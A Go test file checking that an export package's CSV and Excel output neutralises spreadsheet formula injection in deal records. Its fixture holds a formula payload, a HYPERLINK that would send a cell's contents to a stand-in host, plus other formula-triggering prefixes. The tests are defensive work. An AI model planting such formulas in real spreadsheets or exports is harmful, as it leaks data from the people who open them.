package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/dagang/dagang"
	"github.com/dagang/dagang/internal/export"
	"github.com/dagang/dagang/internal/report"
	"github.com/xuri/excelize/v2"
)

// hostile is a deal whose texts a spreadsheet would run as formulas.
func hostile() export.Source {
	return func(ctx context.Context, fn func(*dagang.DealRecord) error) error {
		r := &dagang.DealRecord{}
		r.ID = 7
		r.BusinessName = `=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")`
		r.EventName = "@SUM(1+1)"
		r.CounterpartName = "+62 PT Satu"
		r.CommodityName = "-kemiri"
		r.Unit = "\tton"
		r.Note = "\rcatatan"
		r.Volume = -3.5 // a number: it must stay one
		r.ValueIDR = 1500
		return fn(r)
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := export.CSV(context.Background(), &buf, hostile(), export.Options{NoPersonal: true}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, h := range recs[0] {
		got[h] = recs[1][i]
	}
	want := map[string]string{
		"Pelaku usaha": `'=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")`,
		"Kegiatan":     "'@SUM(1+1)",
		"Mitra":        "'+62 PT Satu",
		"Komoditas":    "'-kemiri",
		"Satuan":       "'\tton",
		"Catatan":      "'\rcatatan",
		"Volume":       "-3.5",
		"Nilai (Rp)":   "1500",
		"ID":           "7",
	}
	for h, w := range want {
		if got[h] != w {
			t.Errorf("column %q = %q, want %q", h, got[h], w)
		}
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "CV Kemiri": "CV Kemiri", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
	} {
		if got := export.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// In Excel the texts are inline strings, never formulas: the cell shows
// the text as it was stored, and a number stays a number.
func TestXLSXWritesFormulasAsText(t *testing.T) {
	var buf bytes.Buffer
	if err := export.XLSX(context.Background(), &buf, &report.Deals{}, hostile(), export.Options{NoPersonal: true}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	hs := export.Headers(export.Options{NoPersonal: true})
	col := func(h string) string {
		for i, x := range hs {
			if x == h {
				c, _ := excelize.CoordinatesToCellName(i+1, 2)
				return c
			}
		}
		t.Fatalf("no column %q", h)
		return ""
	}
	for h, want := range map[string]string{"Pelaku usaha": `=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")`, "Kegiatan": "@SUM(1+1)", "Komoditas": "-kemiri"} {
		cell := col(h)
		if fm, _ := f.GetCellFormula(export.DealSheet, cell); fm != "" {
			t.Errorf("%s (%s) is a formula: %q", cell, h, fm)
		}
		if typ, _ := f.GetCellType(export.DealSheet, cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%s (%s) has type %v, want an inline string", cell, h, typ)
		}
		if v, _ := f.GetCellValue(export.DealSheet, cell); v != want {
			t.Errorf("%s (%s) = %q, want %q", cell, h, v, want)
		}
	}
	if typ, _ := f.GetCellType(export.DealSheet, col("Volume")); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("volume has type %v, want a number", typ)
	}
	if v, _ := f.GetCellValue(export.DealSheet, col("Volume")); v != "-3.5" {
		t.Errorf("volume = %q, want -3.5", v)
	}
	// No <f> element anywhere in the deal sheet.
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
}
